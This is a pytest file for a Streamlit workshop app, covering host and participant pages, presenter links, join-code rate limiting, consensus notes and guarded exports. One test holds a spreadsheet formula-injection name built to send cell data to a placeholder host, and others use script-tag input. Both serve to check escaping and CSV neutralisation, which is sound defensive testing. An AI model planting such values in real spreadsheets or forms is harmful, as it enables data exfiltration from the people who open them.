"""The live-workshop pages: host creates and watches a session, participants join and answer."""

from __future__ import annotations

import pytest
from streamlit.testing.v1 import AppTest

from maturity import i18n
from maturity.workshop import WorkshopService
from tests import helpers


def open_with(root, page: str, lang: str = "zh", **params: str) -> AppTest:
    """Run app.py in ``lang`` with the query params, then switch to ``pages/<page>.py``."""
    at = AppTest.from_file(str(root / "app.py"), default_timeout=60)
    at.query_params["lang"] = lang
    for name, value in params.items():
        at.query_params[name] = value
    at.run()
    return at.switch_page(f"pages/{page}.py").run()


def click(at: AppTest, label: str) -> AppTest:
    """Click the (form submit) button labelled ``label`` and run."""
    [button] = [b for b in at.button if b.label == label]
    return button.click().run()


def session(store, tiny, **kw):
    """A workshop on the tiny model and its host key."""
    svc = WorkshopService(store)
    ws, key = svc.create(store.get_model_snapshot(store.save_model_snapshot(tiny)), "春季研讨会", **kw)
    return svc, ws, key


def test_host_creates_a_session_and_gets_the_links(root, store):
    at = helpers.open_page(root, "workshop_host")
    at.text_input(key="wsh_title").input("职代会前研讨")
    at = click(at, "创建研讨会")
    assert not at.exception, at.exception
    code, key = at.query_params["w"], at.query_params["k"]
    code, key = (code[0] if isinstance(code, list) else code), (key[0] if isinstance(key, list) else key)
    ws = WorkshopService(store).check_host(code, key)
    assert ws.title == "职代会前研讨" and not ws.named and ws.pace == "free"
    assert any(code in md.value for md in at.markdown)
    links = [c.value for c in at.code]
    assert any(f"/workshop?w={code}" in v and "k=" not in v for v in links)
    assert any(f"w={code}&k={key}" in v for v in links)


def test_participant_joins_answers_and_the_host_sees_it(root, store, tiny):
    svc, ws, key = session(store, tiny)
    at = helpers.open_page(root, "workshop")
    at.text_input(key="wsj_code").input(ws.code.lower())
    at = click(at, "加入")
    assert not at.exception, at.exception
    token = at.query_params["p"]
    token = token[0] if isinstance(token, list) else token
    found = svc.participant(token)
    assert found is not None and found[1].code == ws.code

    at.radio(key="wsj_ans_leading.party").set_value(3)
    at = click(at, "提交本组答案")
    assert not at.error, [e.value for e in at.error]
    assert svc.answers_of(token) == {"leading.party": 3}
    assert any("已保存" in s.value for s in at.success)

    host = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not host.exception, host.exception
    metrics = {m.label: m.value for m in host.metric}
    assert metrics["参会人数"] == "1" and metrics["已提交答案数"] == "1"
    table = host.dataframe[0].value
    assert list(table.iloc[:, 0]) == ["参会者 1"] and table.iloc[0, 1].startswith("1/")
    assert host.get("vega_lite_chart")


def test_resume_by_participant_token(root, store, tiny):
    svc, ws, _ = session(store, tiny)
    person = svc.join(ws.code)
    svc.submit(person.token, {"leading.party": 2})
    at = open_with(root, "workshop", p=person.token)
    assert not at.exception, at.exception
    assert at.radio(key="wsj_ans_leading.party").value == 2


def test_wrong_host_key_shows_the_error_and_no_panel(root, store, tiny):
    _, ws, _ = session(store, tiny)
    at = open_with(root, "workshop_host", lang="en", w=ws.code, k="not-the-key")
    assert not at.exception, at.exception
    assert at.error and "host key is wrong" in at.error[0].value
    assert not at.metric and not at.code


def test_closed_session_refuses_answers(root, store, tiny):
    svc, ws, key = session(store, tiny)
    person = svc.join(ws.code)
    at = open_with(root, "workshop", p=person.token)
    at.radio(key="wsj_ans_leading.party").set_value(2)
    svc.close(ws.code, key)
    at = click(at, "提交本组答案")
    assert not at.exception, at.exception
    assert any("主持人已结束本场研讨" in e.value for e in at.error)
    assert svc.answers_of(person.token) == {}


def test_anonymous_export_has_no_names(root, store, tiny):
    svc, ws, key = session(store, tiny)
    person = svc.join(ws.code, "张三")
    svc.submit(person.token, {"leading.party": 4})
    svc.close(ws.code, key)
    assert [r["participant"] for r in svc.export_rows(ws.code, key)] == [1]
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not at.exception, at.exception
    assert any(h.value == "集体结果" for h in at.header)
    cells = [str(v) for df in at.dataframe for v in df.value.to_numpy().ravel()]
    assert "张三" not in " ".join(cells)
    assert not any("张三" in md.value for md in at.markdown)


def test_hostile_name_is_shown_literally(root, store, tiny):
    svc, ws, key = session(store, tiny, named=True)
    person = svc.join(ws.code, helpers.HOSTILE)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not at.exception, at.exception
    assert list(at.dataframe[0].value.iloc[:, 0]) == [helpers.HOSTILE]
    assert not any("<script>" in md.value for md in at.markdown)
    mine = open_with(root, "workshop", p=person.token)
    assert not mine.exception, mine.exception
    assert any("&lt;script&gt;" in c.value and "\\*\\*粗体\\*\\*" in c.value for c in mine.caption)


def test_named_session_needs_a_name(root, store, tiny):
    _, ws, _ = session(store, tiny, named=True)
    at = open_with(root, "workshop", lang="en", w=ws.code)
    at = click(at, "Join")
    assert any("This workshop asks for your name." in e.value for e in at.error)
    assert "p" not in at.query_params


def test_the_presenter_link_shows_no_key_no_names_and_no_controls(root, store, tiny):
    from urllib.parse import parse_qs, urlsplit

    svc = WorkshopService(store)
    ws, key = svc.create(tiny, "投屏测试", named=True)
    person = svc.join(ws.code, "张堃")
    svc.submit(person.token, {"leading.party": 2})
    host = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not host.exception, host.exception
    assert any(key in c.value for c in host.code)  # the host's own screen shows the host link
    [link] = [c.value for c in host.code if "v=" in c.value]
    query = parse_qs(urlsplit(link).query)
    assert "k" not in query and key not in link and query["w"] == [ws.code]
    at = open_with(root, "workshop_host", **{name: values[0] for name, values in query.items()})
    assert not at.exception, at.exception
    shown = " ".join([c.value for c in at.code] + [m.value for m in at.markdown] + [e.label for e in at.expander]
                     + [t.value for t in at.title] + [c.value for c in at.caption])
    assert key not in shown and "张堃" not in shown
    assert "投屏测试" in shown and ws.code in shown  # the title and the join code stay big on the screen
    assert not at.get("dataframe")  # nobody's name, not even a numbered list
    for kind in ("button", "toggle", "selectbox", "text_input", "checkbox", "download_button", "form"):
        assert not at.get(kind), kind
    assert [m.value for m in at.metric] == ["1", "1"]
    assert at.get("vega_lite_chart")  # a named session: the projector shows even one answer's distribution


def test_a_wrong_presenter_token_is_refused_with_a_message(root, store, tiny):
    _, ws, key = session(store, tiny)
    at = open_with(root, "workshop_host", w=ws.code, v=key)  # the host key is not a presenter token
    assert not at.exception, at.exception
    assert at.error and not at.metric and not at.code


def test_a_database_failure_on_submit_is_a_message_and_stores_nothing(root, store, tiny, monkeypatch):
    from sqlalchemy.exc import OperationalError

    svc, ws, _ = session(store, tiny)
    person = svc.join(ws.code)
    at = open_with(root, "workshop", p=person.token)

    def locked(self, token, answers):
        raise OperationalError("BEGIN IMMEDIATE", {}, Exception("database is locked"))

    monkeypatch.setattr(WorkshopService, "submit", locked)
    at.radio(key="wsj_ans_leading.party").set_value(3)
    at = click(at, "提交本组答案")
    assert not at.exception, at.exception
    assert any("保存失败" in e.value for e in at.error)
    monkeypatch.undo()
    assert svc.answers_of(person.token) == {}


def _failures(store) -> int:
    from sqlalchemy import func, select

    from maturity import schema

    with store.db.read() as conn:
        return int(conn.scalar(select(func.count()).select_from(schema.lookup_failures)) or 0)


@pytest.mark.parametrize(("lang", "wrong", "blocked", "join"), [
    ("zh", "没有加入码为 ZZZZZZ 的研讨会", "加入码输错次数过多", "加入"),
    ("en", "There is no workshop with the code ZZZZZZ", "Too many wrong join codes", "Join"),
])
def test_guessing_join_codes_is_stopped_with_a_message(root, store, tiny, lang, wrong, blocked, join):
    from streamlit import config

    # as the app runs for browsers (.streamlit/config.toml): no exception details, so nothing may be mistaken
    # for an unexpected error
    before = config.get_option("client.showErrorDetails")
    config.set_option("client.showErrorDetails", "none")
    try:
        _guess(root, store, tiny, wrong, blocked, join, lang)
    finally:
        config.set_option("client.showErrorDetails", before)


def _guess(root, store, tiny, wrong, blocked, join, lang):
    _, ws, _ = session(store, tiny)
    at = open_with(root, "workshop", lang=lang, w="ZZZZZZ")  # a wrong ?w= link is a wrong code
    assert not at.exception, at.exception
    assert any(wrong in e.value for e in at.error), [e.value for e in at.error]
    at.run()  # a rerun of the same link does not count again
    assert _failures(store) == 2  # one row for the session, one for the address
    for n in range(5):
        at.text_input(key="wsj_code").input(f"ZZZZZ{n + 2}")
        at = click(at, join)
        assert any("ZZZZZ" in e.value for e in at.error) and not any(blocked in e.value for e in at.error)
    at.text_input(key="wsj_code").input(ws.code)  # the right code now: refused too, for a while
    at = click(at, join)
    assert not at.exception, at.exception
    assert any(blocked in e.value for e in at.error), [e.value for e in at.error]
    assert "p" not in at.query_params
    fresh = open_with(root, "workshop", lang=lang)  # another browser session at the same address may
    fresh.text_input(key="wsj_code").input(ws.code)
    fresh = click(fresh, join)
    assert not fresh.error and "p" in fresh.query_params


def test_host_page_offers_guarded_exports_of_hostile_names(root, store, tiny):
    import csv
    import io

    from maturity import tables

    svc, ws, key = session(store, tiny, named=True)
    hostile = '=HYPERLINK("http://x/?"&A1,"open")'
    person = svc.join(ws.code, hostile)
    svc.submit(person.token, {"leading.party": 2})
    svc.close(ws.code, key)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not at.exception, at.exception
    buttons = {b.proto.label for b in at.get("download_button")}
    assert {"下载原始答案（CSV）", "下载原始答案（Excel）"} <= buttons, buttons
    frame = tables.workshop_answers_frame(tiny.model, svc.export_rows(ws.code, key), "zh")
    rows = list(csv.reader(io.StringIO(tables.csv_bytes(frame).decode("utf-8-sig"), newline="")))
    assert rows[1][0] == "'" + hostile and rows[1][1] == "引领力" and rows[1][4] == "2"


def test_a_refused_create_is_its_message_not_an_unexpected_error(root, store):
    from streamlit import config

    before = config.get_option("client.showErrorDetails")
    config.set_option("client.showErrorDetails", "none")  # as for browsers
    try:
        at = helpers.open_page(root, "workshop_host")
        at.text_input(key="wsh_title").input("   ")
        at = click(at, "创建研讨会")
    finally:
        config.set_option("client.showErrorDetails", before)
    assert not at.exception, at.exception
    assert [e.value for e in at.error] == ["请填写研讨会名称。"]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_host_creates_a_named_guided_session_in_either_language(root, store, lang):
    at = helpers.open_page(root, "workshop_host", lang=lang)
    [model] = at.selectbox(key="wsh_model").options
    assert "(" not in model and "tiny" not in model  # the model's title, not "title (id version)"
    at.text_input(key="wsh_title").input("Spring workshop")
    at.selectbox(key="wsh_named").set_value(True)  # its options are translated outside the page run
    at.selectbox(key="wsh_pace").set_value("guided")
    at = click(at, i18n.t("wshost.create", lang))
    assert not at.exception, at.exception
    code, key = (at.query_params[k] for k in ("w", "k"))
    ws = WorkshopService(store).check_host(*(v[0] if isinstance(v, list) else v for v in (code, key)))
    assert ws.named and ws.pace == "guided"
    # No choice yet is an option that says so, not an empty select with a clear button.
    opened = at.selectbox(key="wsh_open")
    assert opened.options[0] == i18n.t("wshost.open_none", lang)
    consensus = [sb for sb in at.selectbox if sb.key and sb.key.startswith("wsh_cons_")]
    assert consensus and all(sb.index == 0 for sb in consensus)


def _split(svc, ws, levels=(1, 2, 4)):
    """Three participants answering leading.party with ``levels`` (on the tiny model's 1–4, a real split)."""
    for level in levels:
        svc.submit(svc.join(ws.code).token, {"leading.party": level})


def _save_first_criterion(at: AppTest) -> AppTest:
    """Submit the consensus form of the first criterion (引领力)."""
    return next(b for b in at.button if b.label == "保存这一组的共识").click().run()


def test_consensus_with_a_note_is_saved_and_shown_as_typed(root, store, tiny):
    svc, ws, key = session(store, tiny)
    _split(svc, ws)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not at.exception, at.exception
    assert any(md.value.startswith("⚠ **1.1 ") for md in at.markdown)  # discuss first
    note = "先按 **3 级** 记 <b>x</b>"
    at.selectbox(key="wsh_cons_leading.party").set_value(3)
    at.text_input(key="wsh_note_leading.party").input(note)
    at = _save_first_criterion(at)
    assert not at.exception, at.exception
    assert any("已保存“引领力”的共识" in s.value for s in at.success), [s.value for s in at.success]
    agg = svc.aggregates(ws.code, key)["leading.party"]
    assert (agg.consensus, agg.note) == (3, note)
    captions = " ".join(c.value for c in at.caption)
    assert "说明：先按 \\*\\*3 级\\*\\* 记 &lt;b&gt;x&lt;/b&gt;" in captions, captions  # escaped, shown as typed


def test_a_note_without_a_level_is_not_saved(root, store, tiny):
    svc, ws, key = session(store, tiny)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    at.text_input(key="wsh_note_leading.party").input("还要再议")
    at = _save_first_criterion(at)
    assert not at.exception, at.exception
    assert any("请先选等级" in w.value for w in at.warning), [w.value for w in at.warning]
    assert svc.aggregates(ws.code, key)["leading.party"].note is None


def test_a_refused_note_is_its_message(root, store, tiny, monkeypatch):
    from maturity.limits import MAX_CONSENSUS_NOTE
    from maturity.workshop import WorkshopError

    _svc, ws, key = session(store, tiny)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert at.text_input(key="wsh_note_leading.party").max_chars == MAX_CONSENSUS_NOTE  # the browser stops there

    def refuse(self, *args, **kwargs):  # what the service says past the limit (a browser without the cap)
        raise WorkshopError("note_too_long", length=MAX_CONSENSUS_NOTE + 1, limit=MAX_CONSENSUS_NOTE)

    monkeypatch.setattr(WorkshopService, "set_consensus", refuse)
    at.selectbox(key="wsh_cons_leading.party").set_value(2)
    at.text_input(key="wsh_note_leading.party").input("太长")
    at = _save_first_criterion(at)
    assert not at.exception, at.exception
    expected = i18n.t("workshop_error.note_too_long", "zh", length=MAX_CONSENSUS_NOTE + 1, limit=MAX_CONSENSUS_NOTE)
    assert [e.value for e in at.error] == [expected] and not at.success


def test_keep_the_result_links_the_saved_self_check_and_updates_it(root, store, tiny):
    from maturity.limits import MAX_NAME

    svc, ws, key = session(store, tiny)
    _split(svc, ws, (2, 3, 3))
    svc.close(ws.code, key)
    at = open_with(root, "workshop_host", w=ws.code, k=key)
    assert not at.exception, at.exception
    assert next(h.value for h in at.header) == "集体结果"  # the results come first after close
    assert not [b for b in at.button if b.key == "wsh_close"] and not at.get("imgs")
    [keep] = [b for b in at.button if b.key == "wsh_keep"]
    at = keep.click().run()
    assert not at.exception, at.exception
    assert [s.value for s in at.success] == ["已保存为本单位的自评结果。"]
    token = svc.kept_result(ws.code, key)
    record = store.get_assessment(token)
    assert record is not None and record.organisation["name"] == "春季研讨会"  # the name field's default
    assert at.text_input(key="wsh_keep_name").max_chars == MAX_NAME
    assert abs(float(record.answers["leading.party"]) - 8 / 3) < 1e-9  # the mean, no consensus recorded
    [link] = [b for b in at.get("link_button")]
    assert link.proto.url.endswith(f"/results?a={token}")
    at.text_input(key="wsh_keep_name").input("某某公司工会")
    at = next(b for b in at.button if b.key == "wsh_keep").click().run()
    assert any("已更新先前保存的自评结果" in s.value for s in at.success)
    assert svc.kept_result(ws.code, key) == token
    assert store.get_assessment(token).organisation["name"] == "某某公司工会"


@pytest.mark.parametrize("closed", [False, True])
def test_the_host_screen_and_the_projector_in_english(root, store, tiny, closed):
    import re

    from tests.test_app_smoke import KEYS, shown_text

    svc, ws, key = session(store, tiny)
    _split(svc, ws)
    svc.set_consensus(ws.code, key, "leading.party", 3, "agreed after a long talk")
    if closed:
        svc.close(ws.code, key)
    for params in ({"k": key}, {"v": svc.presenter_token(ws.code, key)}):
        at = open_with(root, "workshop_host", lang="en", w=ws.code, **params)
        assert not at.exception, at.exception
        assert not at.error, [e.value for e in at.error]
        texts = shown_text(at)
        assert not [t for t in texts if t.strip() in KEYS]
        # the English UI carries no Chinese of its own (the session's title and the model's texts may)
        own = [t for t in texts if re.search(r"[\u4e00-\u9fff]", t) and "春季研讨会" not in t
               and not any(w in t for w in ("引领力", "组织力", "小型示例", "语言 Language"))]
        assert not own, own
